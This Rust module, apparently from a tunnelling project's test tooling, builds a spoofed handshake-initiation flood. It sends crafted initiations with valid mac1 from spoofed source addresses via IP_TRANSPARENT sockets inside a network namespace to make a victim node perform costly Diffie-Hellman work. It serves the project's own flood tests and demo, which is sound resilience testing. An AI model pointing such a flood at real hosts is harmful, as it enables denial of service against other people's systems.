//! A spoofed handshake flood: the attacker of the handshake-flood tests
//! (`tests/node_three_hops.rs`) and of `skywire demo flood`.
//!
//! One thread sends a prepared datagram (a handshake initiation with a valid mac1, made with
//! a key of the attacker's own: [`spoofed_initiation`]) as fast as it can, round robin from
//! several source addresses that are not the sender's (UDP sockets with `IP_TRANSPARENT`,
//! [`skywire_dataplane::sys::socket::transparent_udp_socket`]), until its time is up or it
//! is stopped, and counts what it sent from each. The sockets are made inside the
//! attacker's namespace and keep it; the thread itself runs in the caller's.
//!
//! Unpaced, it sends at the highest rate one thread reaches, and the kernel drops what the
//! victim's socket cannot take (the victim's `RcvbufErrors` shows it); with a rate it sleeps
//! between rounds to keep to it.
//!
//! What it does not do: read anything back (a spoofer never sees the answers), or route: the caller gives
//! the attacker's namespace a route towards the spoofed subnet's peer and turns the
//! victim's reverse-path filter off.

use core::time::Duration;
use std::io;
use std::net::{SocketAddr, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::Instant;

use skywire_dataplane::crypto::noise::{HandshakeError, RouteBinding, StaticKeys, write_init};
use skywire_dataplane::crypto::{PrivateKey, PublicKey};
use skywire_dataplane::sys::socket::transparent_udp_socket;
use skywire_dataplane::wire::{HANDSHAKE_INIT_LEN, RouteId};

use super::command::in_namespace;

/// What to send, from where, to where, for how long.
#[derive(Debug, Clone)]
pub struct FloodOptions {
    /// The victim's transport address.
    pub target: SocketAddr,
    /// Source addresses (spoofed) and how many datagrams each sends per round, so that
    /// `(b, 3)` and `(x, 1)` send three quarters from `b`.
    pub sources: Vec<(SocketAddr, u32)>,
    /// The datagram's payload.
    pub packet: Vec<u8>,
    /// How long to send; [`Flood::finish`] stops earlier.
    pub duration: Duration,
    /// Datagrams a second at most (paced once a round); `None`: as fast as it can.
    pub rate: Option<u64>,
}

/// What a flood sent.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct FloodReport {
    /// Datagrams sent from each source, in the order of [`FloodOptions::sources`].
    pub sent: Vec<(SocketAddr, u64)>,
    /// Sends that failed (a full socket buffer: `ENOBUFS`, `EAGAIN`).
    pub failed: u64,
    /// The payload's length.
    pub packet_len: usize,
    /// From the first send to the last.
    pub elapsed: Duration,
}

impl FloodReport {
    /// Datagrams sent, all sources.
    pub fn total(&self) -> u64 {
        self.sent.iter().map(|(_, n)| n).sum()
    }

    /// Datagrams sent from `source`.
    pub fn from(&self, source: SocketAddr) -> u64 {
        self.sent
            .iter()
            .filter(|(s, _)| *s == source)
            .map(|(_, n)| n)
            .sum()
    }

    /// UDP payload bytes sent.
    pub fn bytes(&self) -> u64 {
        self.total()
            .saturating_mul(u64::try_from(self.packet_len).unwrap_or(u64::MAX))
    }

    /// Datagrams a second.
    pub fn rate(&self) -> f64 {
        self.total() as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// A flood running on its own thread.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<FloodReport>>,
}

impl Flood {
    /// Bind a socket to each source inside `namespace` (a name under `/run/netns`) and start
    /// sending. Needs root (`setns`, `CAP_NET_ADMIN` for `IP_TRANSPARENT`).
    pub fn start(namespace: &str, options: FloodOptions) -> io::Result<Self> {
        let sources = options.sources.clone();
        let sockets = in_namespace(namespace, move || {
            sources
                .iter()
                .map(|&(from, weight)| Ok((transparent_udp_socket(from)?, from, weight)))
                .collect::<io::Result<Vec<(UdpSocket, SocketAddr, u32)>>>()
        })??;
        let stop = Arc::new(AtomicBool::new(false));
        let thread = {
            let stop = Arc::clone(&stop);
            std::thread::Builder::new()
                .name("flood".to_owned())
                .spawn(move || send_until(&sockets, &options, &stop))?
        };
        Ok(Self {
            stop,
            thread: Some(thread),
        })
    }

    /// Whether its time is up (or it ended).
    pub fn is_finished(&self) -> bool {
        self.thread.as_ref().is_none_or(JoinHandle::is_finished)
    }

    /// Stop now (if it still runs) and report.
    pub fn finish(mut self) -> io::Result<FloodReport> {
        self.stop.store(true, Ordering::Relaxed);
        match self.thread.take().map(JoinHandle::join) {
            Some(Ok(report)) => Ok(report),
            _ => Err(io::Error::other("the flood thread failed")),
        }
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// The sending loop: rounds of each source's share, the clock and the stop checked once a
/// round.
fn send_until(
    sockets: &[(UdpSocket, SocketAddr, u32)],
    options: &FloodOptions,
    stop: &AtomicBool,
) -> FloodReport {
    let mut report = FloodReport {
        sent: sockets.iter().map(|&(_, from, _)| (from, 0)).collect(),
        packet_len: options.packet.len(),
        ..FloodReport::default()
    };
    let started = Instant::now();
    let mut total = 0u64;
    while !stop.load(Ordering::Relaxed) && started.elapsed() < options.duration {
        if let Some(rate) = options.rate.filter(|&r| r > 0) {
            let due = Duration::from_secs_f64(total as f64 / rate as f64);
            if let Some(early) = due.checked_sub(started.elapsed()) {
                std::thread::sleep(early);
            }
        }
        for ((socket, _, weight), (_, sent)) in sockets.iter().zip(report.sent.iter_mut()) {
            for _ in 0..*weight {
                match socket.send_to(&options.packet, options.target) {
                    Ok(_) => {
                        *sent += 1;
                        total += 1;
                    }
                    Err(_) => {
                        report.failed += 1;
                        std::thread::yield_now();
                    }
                }
            }
        }
    }
    report.elapsed = started.elapsed();
    report
}

/// A handshake initiation to `victim` for the route it receives as `responder_in` (the id
/// it arrives with), bound to `initiator_in` at the far end, with a valid mac1 (anyone who
/// knows the victim's public key can make one) and a static key that is nobody's: the
/// victim can refuse it only after a Diffie-Hellman, unless it is under load and asks for a
/// cookie first (docs/PROTOCOL.md §5.10).
pub fn spoofed_initiation(
    victim: PublicKey,
    initiator_in: RouteId,
    responder_in: RouteId,
) -> Result<Vec<u8>, HandshakeError> {
    let attacker = PrivateKey::generate()?;
    let keys = StaticKeys::new(attacker, victim)?;
    let binding = RouteBinding {
        initiator_in,
        responder_in,
    };
    let mut init = vec![0u8; HANDSHAKE_INIT_LEN];
    write_init(&keys, binding, responder_in, 7, 1, &mut init)?;
    Ok(init)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]
    use super::*;
    use skywire_dataplane::wire::{HandshakeInitPacket, PacketType};

    #[test]
    fn the_spoofed_initiation_is_well_formed_and_the_report_adds_up() {
        let victim = PrivateKey::generate().unwrap().public_key();
        let id = |n| RouteId::new(n).unwrap();
        let init = spoofed_initiation(victim, id(201), id(101)).unwrap();
        assert_eq!(init.len(), HANDSHAKE_INIT_LEN);
        assert_eq!(init[1], PacketType::HandshakeInit as u8);
        assert_eq!(&init[4..8], &101u32.to_be_bytes());
        assert!(HandshakeInitPacket::new_checked(&init[..]).is_ok());
        let (b, x): (SocketAddr, SocketAddr) = (
            "198.18.2.2:6000".parse().unwrap(),
            "198.18.2.9:40000".parse().unwrap(),
        );
        let report = FloodReport {
            sent: vec![(b, 300), (x, 100)],
            failed: 0,
            packet_len: 132,
            elapsed: Duration::from_secs(2),
        };
        assert_eq!(
            (report.total(), report.from(b), report.bytes()),
            (400, 300, 52_800)
        );
        assert!((report.rate() - 200.0).abs() < 1e-9);
    }
}
